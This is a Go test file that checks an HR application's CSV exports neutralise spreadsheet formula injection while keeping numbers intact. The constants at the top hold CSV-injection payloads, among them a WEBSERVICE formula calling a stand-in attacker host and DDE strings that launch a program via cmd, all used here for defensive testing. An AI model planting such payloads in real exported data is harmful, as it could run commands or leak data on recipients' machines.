package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/tandem-hq/tandem/internal/roster"
	"github.com/tandem-hq/tandem/internal/store"
	"github.com/tandem-hq/tandem/internal/tandem"
)

// Cells a spreadsheet runs (OWASP, "CSV Injection"): the classic payloads.
const (
	formulaUnit     = `=WEBSERVICE("evil.example")&HYPERLINK(A1)`
	formulaName     = `-2+3+cmd|' /C calc'!A0`
	formulaLocation = `@SUM(1+1)*cmd|' /C calc'!A0`
)

// spreadsheetRuns reports whether Excel or LibreOffice would take a cell
// for a formula: it starts with =, +, -, @, tab or CR and is not a number.
func spreadsheetRuns(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) || cell == "-" {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil
}

// TestEveryCSVExportNeutralisesFormulaCellsAndKeepsNumbers names the root
// unit, a person and a location with formula payloads and downloads every
// CSV Tandem serves — the roster, a round's results, the correlation
// pairs: no cell would run in a spreadsheet, numbers (negative eNPS among
// them) are still plain numbers, and the roster export imports back
// without a change.
func TestEveryCSVExportNeutralisesFormulaCellsAndKeepsNumbers(t *testing.T) {
	t.Parallel()
	app := newCorrelationApp(t)
	ctx := context.Background()
	if err := app.st.UpdateUnit(ctx, app.units["Acme"], formulaUnit, false); err != nil {
		t.Fatal(err)
	}
	emps, _, err := app.st.Employees(ctx, store.EmployeeFilter{Query: "c1@example.com"})
	if err != nil || len(emps) != 1 {
		t.Fatalf("c1@example.com: %v %v", emps, err)
	}
	e := emps[0]
	e.Name, e.Location = formulaName, formulaLocation
	if err := app.st.UpdateEmployee(ctx, &e, tandem.Today(timeNow())); err != nil {
		t.Fatal(err)
	}
	progs, err := app.st.Programs(ctx)
	if err != nil || len(progs) == 0 {
		t.Fatalf("programs: %v %v", progs, err)
	}
	rounds, err := app.st.RoundsBetween(ctx, progs[0].ID, timeNow().AddDate(-1, 0, 0), timeNow())
	if err != nil || len(rounds) == 0 {
		t.Fatalf("rounds: %v %v", rounds, err)
	}
	c := app.client()
	c.login("hr@example.com")
	negative := 0
	for _, path := range []string{"/roster/export.csv", "/rounds/" + itoa64(rounds[0].ID) + "/export.csv", "/reports/correlation.csv", "/reports/retention.csv"} {
		r := c.get(path)
		if r.status != http.StatusOK {
			t.Fatalf("GET %s: %d", path, r.status)
		}
		rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatalf("GET %s: not CSV: %v", path, err)
		}
		payloads := 0
		for i, row := range rows {
			for j, cell := range row {
				if spreadsheetRuns(cell) {
					t.Errorf("GET %s: row %d column %q is %q, which a spreadsheet runs", path, i+1, rows[0][j], cell)
				}
				if strings.Contains(cell, "WEBSERVICE") || strings.Contains(cell, "cmd|") {
					payloads++
				}
				if v, err := strconv.ParseFloat(cell, 64); err == nil && v < 0 {
					negative++
				}
			}
		}
		if payloads == 0 {
			t.Errorf("GET %s: no cell holds a payload; the test checks nothing there", path)
		}
		if path == "/roster/export.csv" {
			plan, err := app.st.PlanRoster(ctx, strings.NewReader(r.body), roster.Options{})
			if err != nil {
				t.Fatalf("the roster export does not import back: %v", err)
			}
			if !plan.Empty() {
				t.Errorf("the roster export imports back with changes: %d added, %d updated, new units %q",
					len(plan.Add), len(plan.Update), plan.NewUnits)
			}
		}
	}
	if negative == 0 {
		t.Error("no negative number in any export; the test does not show that numbers stay numbers")
	}
}
